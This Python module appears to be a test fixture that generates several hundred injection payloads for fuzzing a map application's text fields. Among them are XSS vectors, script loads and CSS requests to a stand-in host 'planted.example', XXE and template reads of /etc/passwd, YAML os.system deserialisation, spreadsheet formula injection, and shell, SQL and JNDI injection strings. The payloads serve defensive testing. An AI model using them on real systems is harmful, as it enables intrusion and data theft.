"""Texts that somebody hostile would put where a map takes words: over 300, each another trick.

What a payload would do if it ran is seen from outside: it plants `planted`, opens a dialog, asks
`planted.example` for something, or leaves an element or attribute that the map itself never makes.
"""

from itertools import product

_RUN = "window.planted=1"
_HOST = "planted.example"

_EVENTS = (
    *("abort", "afterprint", "animationend", "animationstart", "auxclick", "beforecopy", "blur"),
    *("beforeinput", "beforetoggle", "canplay", "change", "click", "contextmenu", "copy", "cut"),
    *("cuechange", "dblclick", "drag", "dragend", "dragenter", "dragover", "drop", "ended"),
    *("error", "focus", "focusin", "formdata", "fullscreenchange", "gotpointercapture", "input"),
    *("hashchange", "invalid", "keydown", "keyup", "load", "loadstart", "message", "mousedown"),
    *("mouseenter", "mousemove", "mouseover", "mousewheel", "paste", "pointerdown", "resize"),
    *("pointerover", "pointerrawupdate", "popstate", "reset", "scroll", "scrollend", "select"),
    *("search", "submit", "toggle", "touchstart", "transitionend", "unload", "wheel"),
)
_TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x")
HANDLERS = [
    f"<{_TAGS[place % len(_TAGS)]} on{event}={_RUN}>" for place, event in enumerate(_EVENTS)
]
SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script src=//{_HOST}/a.js></script>",
    f"<script src=https://{_HOST}/a.js></script>",
    f"<script type=module>{_RUN}</script>",
    "<script type=importmap>{}</script>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    f"<<script>{_RUN}//<</script>",
    f"<script>{_RUN}<!--",
    f"<script\x0c>{_RUN}</script>",
    f"<script\x00>{_RUN}</script>",
    f"<scr\x00ipt>{_RUN}</scr\x00ipt>",
    f"<noscript><p title='</noscript><script>{_RUN}</script>'>",
    f"<template><script>{_RUN}</script></template>",
]
BREAKOUTS = [
    f"{end}{start}{after}"
    for end, start, after in product(
        ("</script>", "</SCRIPT >", "</style>", "</title>", "</textarea>", "</noscript>"),
        (f"<script>{_RUN}</script>", f"<img src=x onerror={_RUN}>"),
        ("", "<!--"),
    )
] + [
    *("]]>", f"]]><script>{_RUN}</script>", "<![CDATA[", f"<![CDATA[<script>{_RUN}</script>]]>"),
    *("<!--", "-->", "--!>", f"--><script>{_RUN}</script>", f"--!><img src=x onerror={_RUN}>"),
    *("<!--<script>", "<!-- --!><script>", "</", "<", ">", "<>", "<?", "<!", "</>", "<a", "<a "),
    *("</div></main></body></html>", "</details></table>", "</svg>", "</math>", "</h1><h1>"),
    *("</td></tr></table>", "</li></ul>", "</p></footer>", "</iframe>", "</xmp>", "<plaintext>"),
]
QUOTES = [
    f"{quote}{gap}{attribute}{quote}"
    for quote, gap, attribute in product(
        ('"', "'", "`"),
        (" ", "/", ">"),
        (
            f"onmouseover={_RUN} x=",
            f"autofocus onfocus={_RUN} x=",
            f"style=background:url(//{_HOST}/q)",
        ),
    )
] + ['"', "'", "`", "\\", '\\"', "\\'", "\\\\", '";' + _RUN + '//"', "';" + _RUN + "//'"]
SCHEMES = [
    f"{scheme}{rest}"
    for scheme, rest in product(
        (
            *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:"),
            *("\x01javascript:", "javascript\x00:", "javascript&colon;", "java&Tab;script:"),
            *("&#106;avascript:", "\u2028javascript:", "feed:javascript:", "view-source:"),
            *("vbscript:", "livescript:", "data:text/html,", "data:image/svg+xml,", "blob:"),
        ),
        (_RUN, f"//{_HOST}/%0a{_RUN}"),
    )
] + [
    *(f"//{_HOST}/a", f"\\\\{_HOST}\\a", f"/\\{_HOST}/a", f"https:{_HOST}", "file:///etc/passwd"),
    *(f'https://{_HOST}/"onclick="{_RUN}', f"https://{_HOST}/'><script>{_RUN}</script>"),
    *(f"https://user:word@{_HOST}/", f"https://{_HOST}/\u202egpj.exe", f"ftp://{_HOST}/"),
    "https://[::1",
    f"https://{_HOST}/\n<b>",
    f"http://{_HOST}\t/x",
    "https://",
    "http:",
]
SVG = [
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href=data:,{_RUN} />",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={_RUN}>",
    f"<svg><use href=//{_HOST}/a.svg#a>",
    f"<svg><image href=//{_HOST}/a.png>",
    f"<svg><foreignObject><iframe srcdoc='<script>{_RUN}</script>'>",
    f"<svg><style>@import '//{_HOST}/a.css'</style>",
    f"<svg><title><style></title><img src=x onerror={_RUN}>",
    f"<svg><desc><![CDATA[</desc><script>{_RUN}</script>]]></svg>",
    f"<svg><handler type=text/javascript>{_RUN}</handler>",
    f"<svg><feImage href=//{_HOST}/f.png>",
]
MATHML = [
    f"<math href=javascript:{_RUN}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_RUN}>x",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<math><annotation-xml encoding=text/html><script>{_RUN}</script>",
    f"<math><mi//xlink:href=data:x,{_RUN}>",
    "<math><mglyph><malignmark>",
]
ELEMENTS = [
    f"<iframe src=javascript:{_RUN}>",
    "<iframe srcdoc='<script>parent.planted=1</script>'>",
    f"<object data=//{_HOST}/o>",
    f"<embed src=//{_HOST}/e>",
    f"<applet code=//{_HOST}/a>",
    f"<link rel=stylesheet href=//{_HOST}/a.css>",
    f"<link rel=prefetch href=//{_HOST}/p>",
    f"<link rel=preconnect href=//{_HOST}>",
    f"<meta http-equiv=refresh content='0;url=//{_HOST}/m'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta http-equiv=Set-Cookie content=planted=1>",
    f"<base href=//{_HOST}/>",
    f"<form action=//{_HOST}/f><button>send</button></form>",
    f"<button form=x formaction=javascript:{_RUN}>send</button>",
    f"<isindex type=image src=1 onerror={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<portal src=//{_HOST}/>",
    f"<frameset onload={_RUN}>",
    f"<table background=//{_HOST}/t>",
    f"<td background=javascript:{_RUN}>",
    f"<audio src=//{_HOST}/a.mp3 autoplay>",
    f"<track src=//{_HOST}/t.vtt>",
    f"<source srcset=//{_HOST}/s.png>",
    f"<img srcset='//{_HOST}/i.png 1x'>",
    f"<img src=//{_HOST}/ping.gif>",
    f"<a href=//{_HOST} ping=//{_HOST}/p>x</a>",
    f"<image src=x onerror={_RUN}>",
    f"<x-element contenteditable onfocus={_RUN} tabindex=1>",
    "<img name=getElementById>",
    "<form id=reachline><input name=define></form>",
    "<a id=reachline_map></a>",
    "<b>bold</b>",
    "<h2>heading</h2>",
    "<amp-script src=x>",
    "<slot name=x>",
    "<dialog open>x</dialog>",
]
CSS = [
    f"<style>@import '//{_HOST}/a.css';</style>",
    f"<style>body{{background:url(//{_HOST}/b)}}</style>",
    "<style>*{display:none}</style>",
    f"<p style=background:url(//{_HOST}/c)>",
    f"}}body{{background:url(//{_HOST}/d)}}",
    f"*/;background:url(//{_HOST}/e);/*",
    f"expression({_RUN})",
    f"-moz-binding:url(//{_HOST}/x.xml#x)",
    f"\\75\\72\\6c(//{_HOST}/f)",
    f"@font-face{{font-family:x;src:url(//{_HOST}/g)}}",
]
TEMPLATES = [
    *("{{7*7}}", "{{ config }}", "{% raw %}", "{%- set x=1 -%}", "{# x #}", "{{''.__class__}}"),
    *("{% include 'page.html' %}", "{{cycler.__init__.__globals__.os}}", "${7*7}", "#{7*7}"),
    *("<%= 7*7 %>", "<? echo 1 ?>", "*{7*7}", "@(7*7)", "[[7*7]]", "{n}", "{name}", "{date}", "{}"),
    *("{0}", "{0.__class__}", "{", "}", "{{", "}}", "%s", "%(name)s", "%n", "$&", "$`", "$'"),
    *("$1", "$$", "$<name>", "<!--csp-->", "&lt;!--csp--&gt;", "</script>{{7*7}}", "{% endraw %}"),
    *("$x^2$", "$\\frac{1}{$", "$\\input{/etc/passwd}$", "\\write18{id}"),
]
ENCODED = [
    *("&lt;script&gt;planted=1&lt;/script&gt;", "&#60;script&#62;", "&#x3c;img src=x&#x3e;"),
    *("&amp;lt;b&amp;gt;", "&", "&amp", "&copy;", "&#0;", "&#xD800;", "&#x110000;", "&nosuch;"),
    *("%3Cscript%3Eplanted=1%3C/script%3E", "%00", "%0d%0aSet-Cookie: planted=1", "%253Cb%253E"),
    *("\\u003cscript\\u003e", "\\x3cscript\\x3e", "\\74script\\76", "+ADw-script+AD4-"),
    *("\u02bascript\u02ba", "\uff1cscript\uff1eplanted=1\uff1c/script\uff1e", "\u2039script\u203a"),
    *("\u00bcscript\u00beplanted=1\u00bc/script\u00be", "\u017fcript", "\u212aelvin"),
    "PHNjcmlwdD4=",
]
SIGNS = [
    *("\u202eevil\u202c", "\u2066\u2067x\u2069", "\u200f<b>\u200e", "a\u200bb", "\ufeff<script>"),
    *("\u2028planted=1", "\u2029planted=1", "\u0085x", "\u00a0", "\u00ad<b>"),
    "e\u0301\u0301\u0301",
    *("Z\u0351\u036b\u0343\u036a\u0302", "\U0001f600", "\U000e0001", "\ufffe", "\uffff", "\ufdd0"),
    *("\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b[31mred\x1b[0m", "\x7f", "\x80"),
    "\x9b31m",
    *("a\rb", "a\nb", "a\r\nb", "a\tb", "\u3164", "\u061c", "\u115f", "A" * 900),
]
XML = [
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>',
    f'<?xml-stylesheet href="//{_HOST}/a.xsl"?>',
    '<?xml version="1.0"?>',
    "&e;",
    "<Placemark><name>x</name></Placemark>",
    f"</description><script>{_RUN}</script>",
    f"</name></Placemark><NetworkLink><Link><href>//{_HOST}/k</href></Link></NetworkLink>",
    '<ExtendedData><Data name="x"/></ExtendedData>',
    "$[dynamic]",
    f"<xi:include href=//{_HOST}/x>",
    "xmlns:x='x'",
]
JSON = [
    '"}],"planted":[{"a":"',
    '"},"type":"video","x":{"',
    "\\",
    '\\"',
    "__proto__",
    "constructor",
    "toString",
    '{"__proto__":{"planted":1}}',
    "null",
    "NaN",
    "]}",
    "'); planted=1; ('",
    "*/planted=1/*",
    "//planted=1",
    "',planted=1,'",
    "planted`1`",
]
YAML = [
    *("!!python/object/apply:os.system [id]", "!!js/function x", "*alias", "&anchor x", "- a: b"),
    *("a: b", "? x", "| x", "> x", "# x", "---", "...", "yes", "2025-08-21", "~", "%TAG"),
]
FORMULAS = [
    f"{sign}{body}"
    for sign, body in product(
        ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20"),
        ("1+cmd|' /C calc'!A0", f'HYPERLINK("https://{_HOST}","x")', "SUM(1)"),
    )
] + [
    *(" =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "'=1+1", '"=1+1"', "\u2212SUM(1)"),
    *("=", "+", "-", "@", "-5+cmd", "+1;=2", "=1;2", "\ufe62SUM(1)", "\ufe66SUM(1)"),
    "\ufe6bSUM(1)",
    *("\u3000=1+1", "\x00=1+1", "\x01=1+1", "\u2060=1+1", "+inf", "-nan", "=\u202e1"),
]
SHELL = [
    *("$(id)", "`id`", "; id", "| id", "&& id", "../../etc/passwd", "..\\..\\x", "con"),
    "x\x00.csv",
    *(
        "' OR 1=1 --",
        '"; DROP TABLE strikes; --',
        "*)(uid=*",
        "x' UNION SELECT 1",
        "${jndi:ldap://x}",
    ),
]

FAMILIES = {
    "handlers": HANDLERS,
    "scripts": SCRIPTS,
    "breakouts": BREAKOUTS,
    "quotes": QUOTES,
    "schemes": SCHEMES,
    "svg": SVG,
    "mathml": MATHML,
    "elements": ELEMENTS,
    "css": CSS,
    "templates": TEMPLATES,
    "encoded": ENCODED,
    "signs": SIGNS,
    "xml": XML,
    "json": JSON,
    "yaml": YAML,
    "formulas": FORMULAS,
    "shell": SHELL,
}
PAYLOADS = tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))
